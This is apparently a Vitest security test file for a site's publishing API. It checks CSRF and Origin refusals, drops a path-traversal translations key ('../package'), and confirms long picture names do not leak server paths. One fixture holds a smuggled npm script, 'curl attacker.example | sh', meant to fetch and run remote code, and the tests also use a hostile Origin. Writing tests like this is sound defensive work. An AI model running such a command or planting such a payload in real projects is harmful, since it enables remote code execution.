// @vitest-environment node
// What the section editor writes through the publishing API (in the staff area and in `npm run edit`) comes only
// from its own page: a cross-site post, a body that is not JSON and one without the session's token are
// refused and nothing is saved; a translations key that is not a language (such as ../package) names no file:
// the schema drops it; a picture's very long name is answered without a path of the server's. (Every staff route's session, Origin and CSRF checks: server/staff/guard.test.ts;
// the pictures' rules: pictures.test.ts; a save over a newer draft: publishing.test.ts.)
import fs from 'node:fs';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { type ContentState, PUBLISHING_API } from '../../schema/api/publishing.ts';
import { CSRF_HEADER } from '../../schema/api/staff.ts';
import { headingRenderer, testSiteFolders } from '../../tests/helpers/server/publishing-suite.ts';
import { call, HOST, SITE, signIn, type StaffClient, staffSuite } from '../../tests/helpers/server/staff-suite.ts';
import { engines } from '../../tests/helpers/server/test-database.ts';
import { readContentFolder } from './content-files.ts';

const repository = readContentFolder(process.cwd());
vi.setConfig({ testTimeout: 60_000 });

describe.each(engines)("the section editor's writes on $name", (engine) => {
  const folders = testSiteFolders('editor-writes', repository);
  const suite = staffSuite(engine, 'editor-writes', {
    config: { siteDir: folders.siteDir },
    app: { publishing: { renderer: headingRenderer, root: folders.root, pollSeconds: 0 } },
  });
  afterAll(() => fs.rmSync(folders.base, { recursive: true, force: true }));

  const draft = async (client: StaffClient) =>
    ((await call(suite.app, 'GET', PUBLISHING_API.content, { client })).json().data as ContentState).draft;
  const saveBody = async (client: StaffClient) => ({
    baseRevision: (await draft(client)).id,
    pages: repository.pagesText.replace('Turning Compassion', 'Written by someone else'),
  });
  /** A post as a form on another site (or the editor's own page) would send it: a text/plain body. */
  const textPost = (client: StaffClient, body: unknown, origin: string) =>
    suite.app.inject({
      method: 'POST',
      url: PUBLISHING_API.drafts,
      headers: { host: HOST, origin, cookie: client.cookie, [CSRF_HEADER]: client.csrf, 'content-type': 'text/plain' },
      payload: JSON.stringify(body),
    });

  it('refuses a cross-site text/plain save (403), a text/plain one from its own page (415) and one without the token (403)', async () => {
    const editor = await signIn(suite.app, 'editor');
    const before = await draft(editor);
    expect((await textPost(editor, await saveBody(editor), 'https://evil.example')).statusCode).toBe(403);
    expect((await textPost(editor, await saveBody(editor), SITE)).statusCode).toBe(415);
    const noToken = await call(suite.app, 'POST', PUBLISHING_API.drafts, {
      client: editor,
      csrf: null,
      body: await saveBody(editor),
    });
    expect(noToken.statusCode).toBe(403);
    expect((await draft(editor)).id).toBe(before.id);
  });

  it('never takes a translations key that is not a language, such as ../package: it names no file and is dropped', async () => {
    const editor = await signIn(suite.app, 'editor');
    const base = await draft(editor);
    const repoPackage = fs.readFileSync('package.json', 'utf8');
    const evil = { '../package': JSON.stringify({ scripts: { edit: 'curl attacker.example | sh' } }) };
    const checked = await call(suite.app, 'POST', PUBLISHING_API.check, {
      client: editor,
      body: { translations: evil },
    });
    expect(checked.statusCode).toBe(200);
    const saved = await call(suite.app, 'POST', PUBLISHING_API.drafts, {
      client: editor,
      body: { ...(await saveBody(editor)), translations: evil },
    });
    expect(saved.statusCode).toBe(201);
    // The revision holds its pages and its two languages only, as they were.
    const after = await draft(editor);
    expect(after.id).toBeGreaterThan(base.id);
    expect(after.content.translations).toEqual(base.content.translations);
    expect(fs.readFileSync('package.json', 'utf8')).toBe(repoPackage);
  });

  it("answers a picture's very long name without a path of the server's", async () => {
    const editor = await signIn(suite.app, 'editor');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>').toString('base64');
    const answer = await call(suite.app, 'POST', PUBLISHING_API.pictures, {
      client: editor,
      body: { name: `${'a'.repeat(250)}.svg`, data: svg },
    });
    expect(answer.statusCode).toBeLessThan(500);
    expect(answer.body).not.toContain(process.cwd());
    expect(answer.body).not.toMatch(/"\/(tmp|work|home|root)\//);
  });
});
